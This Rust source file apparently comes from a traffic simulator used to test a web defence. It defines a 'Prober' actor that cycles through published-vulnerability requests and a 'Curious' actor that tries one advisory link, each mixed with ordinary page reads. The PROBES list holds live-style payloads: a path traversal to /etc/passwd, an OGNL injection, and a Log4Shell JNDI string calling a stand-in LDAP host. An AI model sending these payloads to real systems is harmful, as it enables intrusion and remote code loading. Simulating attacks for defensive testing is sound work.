//! Those who try published vulnerabilities from a list, and somebody who tries one.

use std::time::Duration;

use shield::timeline::Call;
use traffic::Timestamp;

use super::actor::{Actor, Asked, Client};
use crate::dice::Dice;

/// Requests that exploit what was published, each another vulnerability.
const PROBES: [&str; 4] = [
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/setup/setupadministrator.action",
    "/%24%7B%28%23a%3D%40org.apache%40x%29%7D/",
    "/api/products?page=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D",
];

/// Tries one after the other, and reads honest pages in between.
#[derive(Debug)]
pub struct Prober {
    client: Client,
    from: Timestamp,
    /// Honest pages after each probe.
    between: u32,
    pace_ms: u32,
    asked: u32,
    first: u32,
}

impl Prober {
    /// All of the list once, in an order of its own.
    #[must_use]
    pub fn new(
        client: Client,
        from: Timestamp,
        between: u32,
        pace_ms: u32,
        mut dice: Dice,
    ) -> Self {
        Self { client, from, between, pace_ms, asked: 0, first: dice.below(4) }
    }

    fn next(&mut self) -> Option<Call> {
        let turn = self.between + 1;
        let (probe, is_probe) = (self.asked / turn, self.asked.is_multiple_of(turn));
        self.asked += 1;
        let number = (self.first + probe) as usize % PROBES.len();
        let target = PROBES.get(number).filter(|_| (probe as usize) < PROBES.len())?;
        Some(self.client.get(if is_probe { target } else { "/api/products/7" }))
    }
}

impl Actor for Prober {
    fn kind(&self) -> &'static str {
        "prober"
    }

    fn begin(&mut self) -> Vec<Asked> {
        let at = self.from;
        self.next().map(|call| Asked { at, call }).into_iter().collect()
    }

    fn answered(&mut self, _: &Call, _: bool, _: u16, at: Timestamp) -> Vec<Asked> {
        let at = at.after(Duration::from_millis(u64::from(self.pace_ms)));
        self.next().map(|call| Asked { at, call }).into_iter().collect()
    }
}

/// Tries the link of an advisory, to see whether it concerns this site, and reads on.
#[derive(Debug)]
pub struct Curious {
    client: Client,
    from: Timestamp,
    pages_left: u32,
}

impl Curious {
    /// One link, and so many pages after it.
    #[must_use]
    pub const fn new(client: Client, from: Timestamp, pages: u32) -> Self {
        Self { client, from, pages_left: pages }
    }
}

impl Actor for Curious {
    fn kind(&self) -> &'static str {
        "curious"
    }

    fn begin(&mut self) -> Vec<Asked> {
        vec![Asked { at: self.from, call: self.client.get("/setup/setupadministrator.action") }]
    }

    fn answered(&mut self, _: &Call, _: bool, _: u16, at: Timestamp) -> Vec<Asked> {
        if self.pages_left == 0 {
            return Vec::new();
        }
        self.pages_left -= 1;
        let at = at.after(Duration::from_secs(20));
        vec![Asked { at, call: self.client.get("/api/products/7") }]
    }
}
